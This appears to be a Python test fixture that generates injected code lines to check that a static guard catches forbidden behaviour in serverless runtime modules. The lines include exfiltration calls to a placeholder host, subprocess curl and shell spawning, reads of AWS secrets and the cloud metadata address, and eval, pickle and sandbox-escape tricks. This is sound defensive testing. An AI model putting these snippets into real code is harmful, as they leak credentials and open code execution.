"""What a function's code does that it should not: lines that are added to a module of a runtime."""

from itertools import product

from attacks.attack import Attack, extend
from attacks.runtimes import CLIENT, CONSUMER, PROCESSOR

# By what must catch them, wherever in a function's code they stand. ``b`` is a record's bytes.
LINES = {
    "code-connection": (
        "import socket; socket.create_connection(('h', 443)).send(b)",
        "import socket as json; json.socket()",
        "from socket import socket as deque; deque()",
        "import http.client; http.client.HTTPSConnection('h').request('POST', '/', b)",
        "from http.client import HTTPSConnection as Decoder",
        "from urllib.request import urlopen; urlopen(b)",
        "import urllib.request as re; re.urlopen(b)",
        "import ssl; ssl.get_server_certificate(('h', 1))",
        "import asyncio; asyncio.run(asyncio.open_connection('h', 443))",
        "import socket; socket.getaddrinfo(b.hex(), 53)",
        "import socket; socket.gethostbyname(b.hex())",
        "import select; select.epoll()",
        "import smtplib; smtplib.SMTP('h')",
        "from xmlrpc import client",
        "import boto3; boto3.client('sqs')",
        "import botocore.session",
        "from services.aws_client.transport import Transport",
        "from services.aws_client import channel; channel.Channel('h', (2, ('h', 1)), None)",
        "from services.aws_client.channel import socket; socket.socket()",
        "from services.aws_client import endpoint; endpoint.socket.getaddrinfo('h', 1)",
        "from services.aws_client.s3 import Transport as Row",
        "where = 'https://collect.example.org/x'",
        "where = 'collect.example.org'",
        "where = f'{b}.example.org'",
        "where = '169.254.169.254'",
        "where = b'http://169.254.170.2'",
        "from httptools import HttpRequestParser",
    ),
    "code-process": (
        "import subprocess; subprocess.run(['curl', b])",
        "from subprocess import Popen as Struct; Struct('x')",
        "import os; os.system('x')",
        "import os; os.execv('x', [])",
        "import os; os.fork()",
        "import os; os.posix_spawn('x', [], {})",
        "from os import popen as partial; partial('x')",
        "import multiprocessing.pool",
        "from concurrent.futures import ProcessPoolExecutor",
        "import threading; threading.Thread(target=print).start()",
        "import ctypes; ctypes.CDLL(None).system(b'x')",
        "import pty; pty.spawn('x')",
    ),
    "code-file": (
        "open('x', 'w').write(b)",
        "from pathlib import Path; Path('x').write_bytes(b)",
        "import pathlib; pathlib.Path('x').read_text()",
        "import tempfile; tempfile.mkstemp()",
        "import io; io.FileIO('x', 'w')",
        "import os; os.open('x', 1)",
        "import shutil; shutil.copy('a', 'b')",
        "import sqlite3; sqlite3.connect('x')",
        "where = '/tmp/rows'",
        "where = '/proc/self/environ'",
        "where = '/var/runtime/bootstrap.py'",
    ),
    "code-environment": (
        "import os; os.environ['SECRET']",
        "import os; os.environ.get('TABLE_NAME')",
        "import os; os.getenv('X')",
        "from os import environ; dict(environ)",
        "import os; str(os.environ)",
        "import os; [*os.environ.items()]",
        "import os as time; time.environb",
        "import os; match_ = {**os.environ}",
        "name = 'AWS_SECRET_ACCESS_KEY'",
        "name = 'AWS_LAMBDA_RUNTIME_API'",
        "name = '_LAMBDA_TELEMETRY_LOG_FD'",
    ),
    "code-hidden-code": (
        "__import__('x')",
        "eval(b)",
        "exec(b)",
        "compile(b, '', 'exec')",
        "import importlib; importlib.import_module('x')",
        "getattr(b, 'x')",
        "globals()['x']",
        "vars(b)",
        "().__class__.__base__.__subclasses__()",
        "(lambda: 0).__globals__",
        "__builtins__['open']",
        "__loader__.load_module('x')",
        "__spec__.loader",
        "import sys; sys.modules['os']",
        "from . import main",
        "import sys; sys._getframe().f_back.f_locals",
        "import inspect; inspect.stack()",
        "import gc; gc.get_objects()",
        "import pickle; pickle.loads(b)",
        "import marshal; marshal.loads(b)",
        "import types; types.FunctionType(b, {})",
        "import runpy; runpy.run_path('x')",
        "import code; code.interact()",
        "client._signer._source.current(0)",
        "kind: 'eval(1)' = 0",
        "text = 'import x'",
        "text = '__subclasses__'",
        f"text = '{'QUJD' * 20}'",
        f"text = b'{'414243' * 12}'",
        "(x for x in ()).gi_frame.f_builtins",
    ),
    "code-logs": (
        "print(b)",
        "import logging; logging.error(b)",
        "import logging.handlers",
        "from logging import getLogger as cache; cache().info(b)",
        "import warnings; warnings.warn(str(b))",
        "import sys; sys.stdout.write(str(b))",
        "import sys; sys.stderr.write(str(b))",
        "from sys import __stdout__",
        "from aws_lambda_powertools import Logger; Logger().info(b)",
        "from aws_lambda_powertools import Metrics; Metrics().add_metadata('x', b)",
        "from aws_lambda_powertools.metrics import single_metric",
        "from aws_lambda_powertools.logging import Logger as Struct",
        "from services.processor.runtime.telemetry import Logger",
    ),
    "code-undeclared": (
        "import uuid; uuid.getnode()",
        "import json; json.codecs.open('x')",
        "import re; re.enum.sys.modules",
        "import random; random._os.system('x')",
        "from json import *",
        "import codecs; codecs.open('x', 'w')",
        "import shlex; shlex.shlex().sourcehook('x')",
        "import base64; base64.b64decode(b)",
        "import lzma; lzma.open('x')",
        "import signal; signal.alarm(1)",
        "import resource",
        "import time; json = time; import json as time; time = time.decoder",
        "import somebodys_package",
        "input()",
        "breakpoint()",
        "import msgspec; msgspec._utils.sys",
        "import syslog; syslog.syslog(b)",
        "import faulthandler; faulthandler.enable()",
        "import fcntl",
        "import contextlib; contextlib.redirect_stdout(b)",
        "from services.processor import construct",
    ),
}
# Where such lines can stand. A module that has much to do with data, and one of each other room.
PLACES = (
    f"{PROCESSOR}/parsing/rows.py",
    f"{PROCESSOR}/contracts/orders.py",
    f"{CONSUMER}/event.py",
    f"{CLIENT}/signature.py",
)
WAYS = {
    "in a module": "{}",
    "in a function": "def more(b: bytes) -> None:\n    {}",
    "in a class": "class More:\n    def more(self, b: bytes) -> None:\n        {}",
    "if it is there": "try:\n    {}\nexcept ImportError:\n    pass",
}


def _lines(kind: str, line: str, file: str, way: str) -> Attack:
    room = file.removeprefix("services/").partition("/")[0]
    text = f"\n\n{WAYS[way].format(line)}\n"
    return Attack(f"{line!r} {way} of {room}", extend(file, text), by=kind)


ATTACKS = (
    *(
        _lines(kind, line, PLACES[at % len(PLACES)], [*WAYS][at // len(PLACES) % len(WAYS)])
        for kind, lines in LINES.items()
        for at, line in enumerate(lines)
    ),
    *(
        _lines(kind, line, file, way)
        for (kind, (line, *_)), file, way in product(LINES.items(), PLACES, WAYS)
    ),
)
